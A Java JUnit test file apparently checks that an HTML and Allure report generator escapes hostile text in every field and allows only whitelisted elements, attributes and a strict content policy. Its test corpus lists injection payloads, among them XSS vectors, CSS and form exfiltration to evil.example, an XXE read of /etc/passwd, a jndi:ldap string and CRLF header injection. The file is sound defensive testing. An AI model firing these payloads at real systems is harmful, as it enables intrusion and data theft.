package io.firedrill.evidence.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.firedrill.SampleNotices;
import io.firedrill.check.DrillResult;
import io.firedrill.check.Judge;
import io.firedrill.check.Verdict;
import io.firedrill.evidence.AllureResults;
import io.firedrill.evidence.Drilled;
import io.firedrill.evidence.KnownGaps;
import io.firedrill.journal.Entry;
import io.firedrill.journal.Event;
import io.firedrill.journal.Journal;
import io.firedrill.scenario.Price;
import io.firedrill.scenario.Scenario;
import java.math.BigDecimal;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What somebody else wrote, in whatever field, is shown on the page and never part of it. */
final class InjectionTests {
    private static final String IN_EVERY_FIELD = "in every field of scenario, verdicts, journal";

    /** Elements of a page, and attributes that each may have. */
    private static final Map<String, Set<String>> ALLOWED = allowed();

    @TempDir
    Path folder;

    static List<String> corpus() {
        return List.of(
                "<script>alert(1)</script>",
                "</script><script src=//evil.example/x.js></script>",
                "\"><img src=x onerror=alert(1)>",
                "' onmouseover='alert(1)' x='",
                "` onfocus=alert(1) autofocus `",
                "'/><svg onload=alert(1)><animate onbegin=alert(1)>",
                "</title></style></pre></td></table></main><iframe src='javascript:alert(1)'>",
                "</svg><foreignObject><body onload=alert(1)>",
                "javascript:alert(1)",
                "[click](javascript:alert(1))",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "<a href=javascript:alert(1)>x</a><base href=//evil.example>",
                "<meta http-equiv=refresh content='0;url=//evil.example'>",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "url(https://evil.example/x.png)",
                "}*{background:url(//evil.example)}@import '//evil.example/x.css';",
                "<style>*{display:none}</style><p style='position:fixed;inset:0'>PASS",
                "expression(alert(1));-moz-binding:url(//evil.example)",
                "]]><!--<a href=\"//evil.example\">--><?xml-stylesheet href='x'?>",
                "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
                "&lt;script&gt;&#60;img src=x onerror=alert(1)&#62;&#x3c;b&#x3e;&nbsp",
                "<form action=//evil.example><input name=q><button formaction=//evil.example>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<template><slot onslotchange=alert(1)></template><details ontoggle=alert(1) open>",
                "\u202Egnp.exe\u202C \u2066SSAP\u2069 \u200F\u05D0\u05D1",
                "\u0000\u0001\u0007\u001b[2J\u001b]0;x\u0007\u0085\u009b31m\uFFFE",
                "\uD800<b>\uDC00 \uD83D\uDE00",
                "a\r\nSet-Cookie: x\r\n\r\n<b>",
                "=HYPERLINK(\"//evil.example\")",
                "${jndi:ldap://evil.example/x} {{7*7}} %0d%0a",
                "x".repeat(300) + "<b>");
    }

    private static Map<String, Set<String>> allowed() {
        Set<String> drawn =
                Set.of("x", "y", "x1", "x2", "y1", "y2", "cx", "cy", "r", "rx", "d", "class");
        Set<String> sized = Set.of("x", "y", "width", "height", "rx", "class");
        Set<String> cell = Set.of("scope", "role", "data-label");
        return Map.ofEntries(
                Map.entry("html", Set.of("lang")),
                Map.entry("head", Set.of()),
                Map.entry("meta", Set.of("charset", "http-equiv", "content", "name")),
                Map.entry("title", Set.of()),
                Map.entry("style", Set.of()),
                Map.entry("body", Set.of()),
                Map.entry("main", Set.of()),
                Map.entry("h1", Set.of()),
                Map.entry("h2", Set.of("id")),
                Map.entry("h3", Set.of()),
                Map.entry("p", Set.of("class")),
                Map.entry("ul", Set.of()),
                Map.entry("li", Set.of()),
                Map.entry("nav", Set.of("aria-label", "class")),
                Map.entry("a", Set.of("href")),
                Map.entry("table", Set.of("role", "class")),
                Map.entry("caption", Set.of()),
                Map.entry("thead", Set.of("role")),
                Map.entry("tbody", Set.of("role")),
                Map.entry("tr", Set.of("role")),
                Map.entry("th", cell),
                Map.entry("td", cell),
                Map.entry("div", Set.of("class", "tabindex", "role", "aria-label")),
                Map.entry("figure", Set.of()),
                Map.entry("figcaption", Set.of()),
                Map.entry("svg", Set.of("xmlns", "viewBox", "width", "height", "role")),
                Map.entry("rect", sized),
                Map.entry("circle", drawn),
                Map.entry("line", drawn),
                Map.entry("path", drawn),
                Map.entry("text", drawn));
    }

    @Test
    void nothingOfItIsPartOfThePageWhereEveryFieldHoldsAllOfIt() throws Exception {
        List<String> all = List.of(String.join(" ", corpus()));

        assertHarmless(page(poisoned(all, false)));
        assertHarmless(page(poisoned(all, true)));
    }

    @Test
    void norWhereEachFieldHoldsAnother() throws Exception {
        for (int turn = 0; turn < 3; turn++) {
            List<String> turned = new ArrayList<>(corpus());
            Collections.rotate(turned, turn * 7);

            assertHarmless(page(poisoned(turned, turn > 0)));
        }
    }

    @Test
    void markupIsShownAsItWasSent() throws Exception {
        Document page = page(poisoned(List.of("<script>alert(1)</script>"), false));

        assertThat(page.select("h1").text()).isEqualTo("<script>alert(1)</script>");
    }

    @Test
    void whatTurnsTheDirectionOfWritingBecomesAMark() throws Exception {
        assertThat(page(poisoned(List.of("\u202ESSAP\u0007"), false))
                        .select("h1")
                        .text())
                .isEqualTo("\uFFFDSSAP\uFFFD");
    }

    @Test
    void aDescriptionInAllureHoldsNeitherMarkupNorALinkOfOthers() throws Exception {
        Drilled drill = poisoned(List.of("<img src=x>[x](javascript:alert(1))"), false);
        Path results = folder.resolve("results");
        Files.createDirectories(folder.resolve("empty"));

        new AllureResults(results, KnownGaps.NONE).add(drill, folder.resolve("empty"));

        try (Stream<Path> files = Files.list(results)) {
            assertThat(files.toList())
                    .isNotEmpty()
                    .allSatisfy(file -> assertThat(new ObjectMapper()
                                    .readTree(file.toFile())
                                    .get("description")
                                    .asText())
                            .startsWith("&lt;img src=x>[x]\\(javascript")
                            .doesNotContain("<", "[x](")
                            .contains("[report.html](../drills/bank/primary-lost/report.html)"));
        }
    }

    private static void assertHarmless(Document page) {
        for (Element element : page.getAllElements()) {
            String name = element.tagName();
            if (name.equals("#root")) {
                continue;
            }
            assertThat(ALLOWED).as(IN_EVERY_FIELD).containsKey(name);
            assertThat(element.attributes().asList().stream()
                            .map(Attribute::getKey)
                            .collect(Collectors.toSet()))
                    .as(name)
                    .isSubsetOf(ALLOWED.get(name));
        }
        assertThat(page.select("a").eachAttr("href")).allMatch(to -> to.matches("#[a-z-]+"));
        assertThat(page.select("style").stream().map(it -> it.data() + it.wholeText()))
                .allMatch(sheet -> !sheet.contains("evil") && !sheet.contains("url("))
                .allMatch(sheet -> !sheet.contains("@import"));
        assertThat(page.select("meta[http-equiv]").eachAttr("content"))
                .containsExactly("default-src 'none'; style-src 'unsafe-inline';"
                        + " base-uri 'none'; form-action 'none'");
        assertThat(page.select("[class]").eachAttr("class"))
                .allMatch(style -> style.matches("[a-zA-Z0-9 -]+"));
    }

    private Document page(Drilled drill) throws Exception {
        return Reported.page(folder, drill);
    }

    private static Drilled poisoned(List<String> hostile, boolean keys) {
        Scenario told = Reported.with(
                SampleNotices.drill(60, "n01-first-notice"),
                Optional.of(ReportTests.programme()),
                Map.of("transfer", new Price(BigDecimal.ONE, "EUR")));
        Journal story = SampleNotices.story();
        Poison poison = new Poison(hostile, keys);
        Scenario scenario = poison.all(Scenario.class, told);
        List<Entry> entries = story.entries().stream()
                .map(entry -> new Entry(
                        entry.index(),
                        entry.nanos(),
                        entry.wall(),
                        hostile.get(0),
                        poison.all(Event.class, entry.event())))
                .toList();
        List<Verdict> verdicts = Judge.withAllChecks().judge(told, story).verdicts().stream()
                .map(verdict -> poison.all(Verdict.class, verdict))
                .toList();
        assertThat(poison.strings()).isGreaterThan(1_000);
        return Reported.drilled(new DrillResult(scenario, verdicts), () -> entries);
    }
}
